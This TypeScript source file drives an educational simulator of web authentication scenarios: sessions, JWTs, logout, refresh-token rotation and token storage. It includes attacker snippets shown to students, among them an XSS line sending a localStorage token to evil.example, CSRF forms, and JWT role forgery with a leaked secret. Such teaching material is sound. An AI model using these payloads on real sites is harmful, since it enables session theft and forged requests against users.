/**
 * The scenarios: each a short script over a fresh World, recorded as steps. A step holds the HTTP
 * exchange (or the change to the set-up), the key of its explanation, and snapshots of the counters,
 * the browser and the topology, so the page can step back and forth without running anything again.
 */
import { formatHttp } from './http';
import { payloadText, replacePayload, signPayload, withRole } from './jwt';
import type { Rng } from './rng';
import { USERS } from './users';
import {
  measureGrowth,
  World,
  type BrowserView,
  type Counters,
  type Exchange,
  type NodeId,
  type RefreshStats,
  type SendOptions,
  type StoreStats,
  type Topology,
} from './world';

export const SIM_IDS = [
  'session-login',
  'scale-out',
  'restart',
  'jwt-login',
  'logout',
  'authn-authz',
  'authn-authz-cookie',
  'refresh-rotation',
  'token-storage',
] as const;
export type SimId = (typeof SIM_IDS)[number];

export function isSimId(id: string): id is SimId {
  return (SIM_IDS as readonly string[]).includes(id);
}

export type Params = Record<string, string | number>;

export interface GrowthRow {
  users: number;
  sessionBytes: number;
  jwtBytes: number;
}

export interface Step {
  /** `sim.<scenario>.<step>`: the explanation's string key. */
  explain: string;
  params: Params;
  exchange: Exchange | null;
  /** For a set-up change: what changed. */
  action: 'configure' | 'restart' | 'wait' | 'leak' | 'growth' | 'steal' | null;
  topology: Topology;
  /** The simulated time after the step. */
  now: number;
  counters: Counters;
  browser: BrowserView;
  memory: { name: string; entries: number; bytes: number; restarts: number }[];
  stores: { shared: StoreStats; denyList: StoreStats; refresh: RefreshStats };
  /** What the attacker holds; null while the scenario has no attacker. */
  attacker: [string, string][] | null;
  /** Script an attacker got to run in the victim's page (XSS), shown as code. */
  script: string | null;
  /** Boxes to highlight in the diagram. */
  active: NodeId[];
  growth: GrowthRow[] | null;
  /** A secret an attacker found (scenario 6). */
  leakedSecret: string | null;
}

export interface SimRun {
  id: SimId;
  steps: Step[];
  world: World;
  /** Keeps recording: the page appends the student's own requests. */
  recorder: Recorder;
  /** Steps from this index on are the student's turn in the page (scenario 6); the tests run them all. */
  interactiveFrom: number | null;
}

const LOGIN = `username=alice&password=${USERS.alice!.password}`;
/** Form-encoded as a browser would: "@" becomes %40. */
const EVIL_EMAIL = 'email=mallory%40evil.example';

const refreshBody = (token: string | undefined): string =>
  `grant_type=refresh_token&refresh_token=${token ?? ''}`;

/**
 * What the attackers' code looks like, shown beside the steps it drives. Code only, no prose, so
 * it reads the same in both languages; the heading above it says where it runs.
 */
const XSS_READ = `const t = localStorage.getItem('access_token');
new Image().src = 'https://evil.example/c?t=' + t;`;
const XSS_COOKIE = `document.cookie   // → ""`;
const XSS_FETCH = `fetch('/settings', {
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body: 'email=mallory%40evil.example',
});`;
const CSRF_FORM = `<form method="POST" action="https://app.example/settings">
  <input name="email" value="mallory@evil.example">
</form>
<script>document.forms[0].submit()</script>`;
const CSRF_IMG = `<img src="https://app.example/profile">`;
const CSRF_LINK = `<a href="https://app.example/profile">app.example/profile</a>`;
const GROWTH = [10, 100, 1000, 10000];

/** Records steps over a world. */
export class Recorder {
  readonly steps: Step[] = [];
  leaked: string | null = null;

  /** interactive: stop where the page hands over to the student. */
  constructor(
    readonly world: World,
    readonly interactive = false,
  ) {}

  private snapshot(
    explain: string,
    params: Params,
    exchange: Exchange | null,
    action: Step['action'],
    active: NodeId[],
    growth: GrowthRow[] | null = null,
    script: string | null = null,
  ): Step {
    const step: Step = {
      explain,
      params,
      exchange,
      action,
      topology: { ...this.world.topology },
      now: this.world.now,
      counters: this.world.counters(),
      browser: this.world.browserView(),
      memory: this.world.serverMemory(),
      stores: this.world.storeView(),
      attacker: this.world.attackerView(),
      script,
      active,
      growth,
      leakedSecret: this.leaked,
    };
    this.steps.push(step);
    return step;
  }

  /** Sends a request and records it; params get the server, status and sizes. */
  async send(
    explain: string,
    method: 'GET' | 'POST',
    path: string,
    options: SendOptions = {},
    params: Params = {},
  ): Promise<Exchange> {
    const x = await this.world.send(method, path, options);
    this.record(explain, x, params);
    return x;
  }

  /** Records an exchange that has happened; `script` is the attacker's code that sent it. */
  record(explain: string, x: Exchange, params: Params = {}, script: string | null = null): void {
    this.snapshot(
      explain,
      {
        server: this.world.servers[x.server]!.name,
        status: x.response.status,
        bytes: x.requestBytes,
        lookups: x.lookups,
        checks: x.signatureChecks,
        ...params,
      },
      x,
      null,
      x.hops,
      null,
      script,
    );
  }

  /** Sends a request that an attacker's code makes the victim's browser send, with that code. */
  async sendScripted(
    explain: string,
    method: 'GET' | 'POST',
    path: string,
    options: SendOptions,
    script: string,
  ): Promise<Exchange> {
    const x = await this.world.send(method, path, options);
    this.record(explain, x, {}, script);
    return x;
  }

  /** Sends with the token the page's script holds, as "Authorization: Bearer". */
  async sendBearer(explain: string, method: 'GET' | 'POST', path: string): Promise<Exchange> {
    const token = this.world.token;
    return this.send(explain, method, path, token === undefined ? {} : { bearer: token });
  }

  configure(explain: string, change: Partial<Topology>): void {
    this.world.configure(change);
    const active: NodeId[] = [
      'balancer',
      ...this.world.servers.map((_, i) => `server-${i}` as const),
    ];
    this.snapshot(explain, { servers: this.world.topology.servers }, null, 'configure', active);
  }

  restart(explain: string, server: number): void {
    this.world.restart(server);
    this.snapshot(explain, { server: this.world.servers[server]!.name }, null, 'restart', [
      `server-${server}`,
    ]);
  }

  /**
   * The attacker gets hold of something: a copied cookie, or what an injected script read. With a
   * script, it is shown as the code that ran in the victim's page.
   */
  steal(explain: string, loot: [string, string][], script: string | null = null): void {
    this.world.meetAttacker();
    for (const [name, value] of loot) this.world.steal(name, value);
    const active: NodeId[] = script ? ['browser', 'attacker'] : ['attacker'];
    this.snapshot(explain, { items: loot.length }, null, 'steal', active, null, script);
  }

  wait(explain: string, seconds: number): void {
    this.world.advance(seconds);
    this.snapshot(explain, { minutes: Math.round(seconds / 60) }, null, 'wait', []);
  }

  leak(explain: string): void {
    this.leaked = this.world.secret;
    this.snapshot(explain, { secret: this.world.secret }, null, 'leak', ['server-0']);
  }

  growth(explain: string): void {
    const rows = measureGrowth(this.world.rng, GROWTH);
    const last = rows[rows.length - 1]!;
    this.snapshot(
      explain,
      { users: last.users, bytes: last.sessionBytes },
      null,
      'growth',
      ['store-shared'],
      rows,
    );
  }
}

type Script = (r: Recorder) => Promise<void>;

const SCRIPTS: Record<SimId, { topology: Partial<Topology>; script: Script }> = {
  'session-login': {
    topology: { servers: 1, auth: 'session', store: 'memory' },
    async script(r) {
      await r.send('sim.session-login.anonymous', 'GET', '/profile');
      await r.send('sim.session-login.login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.session-login.profile', 'GET', '/profile');
      await r.send('sim.session-login.again', 'GET', '/profile');
      r.growth('sim.session-login.growth');
    },
  },
  'scale-out': {
    topology: { servers: 1, auth: 'session', store: 'memory' },
    async script(r) {
      r.configure('sim.scale-out.three', { servers: 3, balancer: 'round-robin' });
      await r.send('sim.scale-out.login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.scale-out.lost', 'GET', '/profile');
      r.configure('sim.scale-out.sticky', { balancer: 'sticky' });
      await r.send('sim.scale-out.sticky-login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.scale-out.sticky-profile', 'GET', '/profile');
      await r.send('sim.scale-out.sticky-again', 'GET', '/profile');
      r.configure('sim.scale-out.shared', { balancer: 'round-robin', store: 'shared' });
      await r.send('sim.scale-out.shared-login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.scale-out.shared-profile', 'GET', '/profile');
      await r.send('sim.scale-out.shared-again', 'GET', '/profile');
      r.growth('sim.scale-out.growth');
    },
  },
  restart: {
    topology: { servers: 1, auth: 'session', store: 'memory' },
    async script(r) {
      await r.send('sim.restart.login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.restart.profile', 'GET', '/profile');
      r.restart('sim.restart.restart', 0);
      await r.send('sim.restart.lost', 'GET', '/profile');
      r.configure('sim.restart.jwt', { auth: 'jwt' });
      await r.send('sim.restart.jwt-login', 'POST', '/login', { body: LOGIN });
      await r.sendBearer('sim.restart.jwt-profile', 'GET', '/profile');
      r.restart('sim.restart.jwt-restart', 0);
      await r.sendBearer('sim.restart.jwt-survives', 'GET', '/profile');
    },
  },
  'jwt-login': {
    topology: { servers: 3, auth: 'jwt', balancer: 'round-robin' },
    async script(r) {
      await r.send('sim.jwt-login.login', 'POST', '/login', { body: LOGIN });
      await r.sendBearer('sim.jwt-login.profile', 'GET', '/profile');
      await r.sendBearer('sim.jwt-login.again', 'GET', '/profile');
      await r.sendBearer('sim.jwt-login.third', 'GET', '/profile');
      r.growth('sim.jwt-login.growth');
    },
  },
  logout: {
    topology: { servers: 1, auth: 'session', store: 'memory' },
    async script(r) {
      await r.send('sim.logout.login', 'POST', '/login', { body: LOGIN });
      const sid = r.world.browser.cookies(r.world.now).find((c) => c.name === 'sid')?.value ?? '';
      r.steal('sim.logout.steal', [['sid', sid]]);
      await r.send('sim.logout.profile', 'GET', '/profile');
      await r.send('sim.logout.logout', 'POST', '/logout');
      // The attacker replays the copy from their own machine; alice's jar is empty by now.
      await r.send('sim.logout.replay', 'GET', '/profile', {
        client: 'attacker',
        cookie: `sid=${sid}`,
      });
      r.configure('sim.logout.jwt', { auth: 'jwt' });
      await r.send('sim.logout.jwt-login', 'POST', '/login', { body: LOGIN });
      const stolen = r.world.token ?? '';
      r.steal('sim.logout.jwt-steal', [['access_token', stolen]]);
      await r.sendBearer('sim.logout.jwt-profile', 'GET', '/profile');
      await r.sendBearer('sim.logout.jwt-logout', 'POST', '/logout');
      await r.send('sim.logout.jwt-replay', 'GET', '/profile', {
        client: 'attacker',
        bearer: stolen,
      });
      r.wait('sim.logout.wait', 15 * 60);
      await r.send('sim.logout.jwt-expired', 'GET', '/profile', {
        client: 'attacker',
        bearer: stolen,
      });
      r.configure('sim.logout.deny', { denyList: true });
      await r.send('sim.logout.deny-login', 'POST', '/login', { body: LOGIN });
      const copy = r.world.token ?? '';
      r.steal('sim.logout.deny-steal', [['access_token', copy]]);
      await r.sendBearer('sim.logout.deny-logout', 'POST', '/logout');
      await r.send('sim.logout.deny-replay', 'GET', '/profile', {
        client: 'attacker',
        bearer: copy,
      });
    },
  },
  'authn-authz': {
    topology: { servers: 1, auth: 'jwt' },
    async script(r) {
      await r.send('sim.authn-authz.anonymous', 'GET', '/profile');
      await r.send('sim.authn-authz.login', 'POST', '/login', { body: LOGIN });
      await r.sendBearer('sim.authn-authz.profile', 'GET', '/profile');
      await r.sendBearer('sim.authn-authz.admin', 'GET', '/admin');
      // From here on the page lets the student do it; the script does what a student would.
      if (r.interactive) return;
      const token = r.world.token ?? '';
      const forged = replacePayload(token, withRole(payloadText(token) ?? '{}', 'admin'));
      await r.send('sim.authn-authz.edited', 'GET', '/admin', { bearer: forged });
      r.leak('sim.authn-authz.leak');
      const resigned = await signPayload(payloadText(forged) ?? '{}', r.world.secret);
      await r.send('sim.authn-authz.resigned', 'GET', '/admin', { bearer: resigned });
      await r.send('sim.authn-authz.resigned-profile', 'GET', '/profile', { bearer: resigned });
    },
  },
  'authn-authz-cookie': {
    topology: { servers: 1, auth: 'session', store: 'memory' },
    async script(r) {
      await r.send('sim.authn-authz-cookie.anonymous', 'GET', '/profile');
      await r.send('sim.authn-authz-cookie.bad-login', 'POST', '/login', {
        body: 'username=alice&password=guess',
      });
      await r.send('sim.authn-authz-cookie.login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.authn-authz-cookie.profile', 'GET', '/profile');
      await r.send('sim.authn-authz-cookie.admin', 'GET', '/admin');
      // alice edits her own cookie in DevTools, as she edited the token's role in scenario 6.
      const sid = r.world.browser.cookies(r.world.now).find((c) => c.name === 'sid')?.value ?? '';
      r.world.browser.editCookie('sid', `${sid.startsWith('A') ? 'B' : 'A'}${sid.slice(1)}`);
      await r.send('sim.authn-authz-cookie.edited', 'GET', '/admin');
      r.world.browser.clear();
      await r.send('sim.authn-authz-cookie.admin-login', 'POST', '/login', {
        body: `username=carol&password=${USERS.carol!.password}`,
      });
      await r.send('sim.authn-authz-cookie.admin-ok', 'GET', '/admin');
    },
  },
  'refresh-rotation': {
    topology: { servers: 1, auth: 'jwt', refresh: true, accessTtl: 300 },
    async script(r) {
      const w = r.world;
      await r.send('sim.refresh-rotation.login', 'POST', '/login', { body: LOGIN });
      await r.sendBearer('sim.refresh-rotation.profile', 'GET', '/profile');
      r.wait('sim.refresh-rotation.wait', 300);
      await r.sendBearer('sim.refresh-rotation.expired', 'GET', '/profile');
      await r.send('sim.refresh-rotation.refresh', 'POST', '/token', {
        body: refreshBody(w.refreshToken),
      });
      await r.sendBearer('sim.refresh-rotation.profile-again', 'GET', '/profile');
      const current = w.refreshToken ?? '';
      r.steal('sim.refresh-rotation.steal', [['refresh_token', current]]);
      r.wait('sim.refresh-rotation.wait-again', 300);
      await r.send('sim.refresh-rotation.thief-refresh', 'POST', '/token', {
        client: 'attacker',
        body: refreshBody(current),
      });
      await r.send('sim.refresh-rotation.thief-profile', 'GET', '/profile', {
        client: 'attacker',
        bearer: w.loot?.get('access_token') ?? '',
      });
      await r.send('sim.refresh-rotation.reuse', 'POST', '/token', {
        body: refreshBody(w.refreshToken),
      });
      await r.send('sim.refresh-rotation.thief-refresh-again', 'POST', '/token', {
        client: 'attacker',
        body: refreshBody(w.loot?.get('refresh_token')),
      });
      await r.send('sim.refresh-rotation.thief-still', 'GET', '/profile', {
        client: 'attacker',
        bearer: w.loot?.get('access_token') ?? '',
      });
      r.wait('sim.refresh-rotation.wait-end', 300);
      await r.send('sim.refresh-rotation.thief-expired', 'GET', '/profile', {
        client: 'attacker',
        bearer: w.loot?.get('access_token') ?? '',
      });
      await r.send('sim.refresh-rotation.login-again', 'POST', '/login', { body: LOGIN });
    },
  },
  'token-storage': {
    topology: { servers: 1, auth: 'jwt', tokenIn: 'body' },
    async script(r) {
      const w = r.world;
      w.meetAttacker();
      await r.send('sim.token-storage.login', 'POST', '/login', { body: LOGIN });
      await r.sendBearer('sim.token-storage.profile', 'GET', '/profile');
      const token = w.token ?? '';
      r.steal('sim.token-storage.xss-read', [['access_token', token]], XSS_READ);
      await r.send('sim.token-storage.thief', 'GET', '/profile', {
        client: 'attacker',
        bearer: token,
      });
      await r.sendScripted(
        'sim.token-storage.csrf-bearer',
        'POST',
        '/settings',
        { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
        CSRF_FORM,
      );
      // Round two, in a fresh browser; the attacker's copy from round one is set aside.
      w.browser.clear();
      w.loot?.clear();
      r.configure('sim.token-storage.cookie', { tokenIn: 'cookie', sameSite: 'Lax' });
      await r.send('sim.token-storage.cookie-login', 'POST', '/login', { body: LOGIN });
      await r.send('sim.token-storage.cookie-profile', 'GET', '/profile');
      r.steal('sim.token-storage.xss-cookie', [], XSS_COOKIE);
      await r.sendScripted(
        'sim.token-storage.xss-ride',
        'POST',
        '/settings',
        { initiator: 'xss', body: EVIL_EMAIL },
        XSS_FETCH,
      );
      await r.sendScripted(
        'sim.token-storage.csrf-post',
        'POST',
        '/settings',
        { initiator: 'evil', navigation: true, body: EVIL_EMAIL },
        CSRF_FORM,
      );
      await r.sendScripted(
        'sim.token-storage.csrf-img',
        'GET',
        '/profile',
        { initiator: 'evil' },
        CSRF_IMG,
      );
      await r.sendScripted(
        'sim.token-storage.csrf-link',
        'GET',
        '/profile',
        { initiator: 'evil', navigation: true },
        CSRF_LINK,
      );
      r.configure('sim.token-storage.strict', { sameSite: 'Strict' });
      await r.send('sim.token-storage.strict-login', 'POST', '/login', { body: LOGIN });
      await r.sendScripted(
        'sim.token-storage.strict-link',
        'GET',
        '/profile',
        { initiator: 'evil', navigation: true },
        CSRF_LINK,
      );
      await r.send('sim.token-storage.logout', 'POST', '/logout');
      const big = await w.send('POST', '/login', {
        body: `username=bob&password=${USERS.bob!.password}`,
      });
      const setCookie = big.response.headers.find(([n]) => n === 'Set-Cookie')?.[1] ?? '';
      const pair = setCookie.split(';')[0] ?? '';
      r.record('sim.token-storage.big-login', big, { cookie: pair.length - 1 });
      await r.send('sim.token-storage.big-profile', 'GET', '/profile');
    },
  },
};

/** Where scenario 6 hands over to the student: after the 403. */
const INTERACTIVE_FROM: Partial<Record<SimId, number>> = { 'authn-authz': 4 };

/**
 * Runs a scenario from the start on a fresh world. With `interactive`, a scenario that hands over to
 * the student stops there (the page then records the student's requests with `recorder`).
 */
export async function runScenario(
  id: SimId,
  rng: Rng,
  options: { interactive?: boolean; start?: number } = {},
): Promise<SimRun> {
  const def = SCRIPTS[id];
  const world = new World(rng, def.topology, options.start);
  const r = new Recorder(world, options.interactive ?? false);
  await def.script(r);
  return { id, steps: r.steps, world, recorder: r, interactiveFrom: INTERACTIVE_FROM[id] ?? null };
}

/** The run as text: every step's explanation key and HTTP messages, for comparing runs. */
export function transcript(steps: Step[]): string {
  return steps
    .map((s, i) => {
      const head = `#${i + 1} ${s.explain} ${JSON.stringify(s.params)}`;
      if (!s.exchange) return head;
      return `${head}\n${formatHttp(s.exchange.request)}\n----\n${formatHttp(s.exchange.response)}`;
    })
    .join('\n\n');
}

/**
 * The student's own request in scenario 6, explained by what the server made of it. The first 401 for
 * a token makes the secret leak, so the student can try signing their edit.
 */
export async function sendAsStudent(
  r: Recorder,
  path: '/admin' | '/profile',
  token: string,
): Promise<Exchange> {
  const t = token.trim();
  const key = (x: Exchange['outcome']): string => {
    switch (x) {
      case 'signature-invalid':
        return 'sim.authn-authz.edited';
      case 'forbidden':
        return 'sim.authn-authz.admin';
      case 'no-credentials':
        return 'sim.authn-authz.anonymous';
      case 'ok':
        if (path === '/admin') return 'sim.authn-authz.resigned';
        return r.leaked ? 'sim.authn-authz.resigned-profile' : 'sim.authn-authz.profile';
      default:
        return 'sim.authn-authz.malformed';
    }
  };
  // The explanation depends on the answer, so the step is recorded after the request.
  const x = await r.world.send('GET', path, t ? { bearer: t } : {});
  r.record(key(x.outcome), x);
  if (x.response.status === 401 && t && !r.leaked) r.leak('sim.authn-authz.leak');
  return x;
}
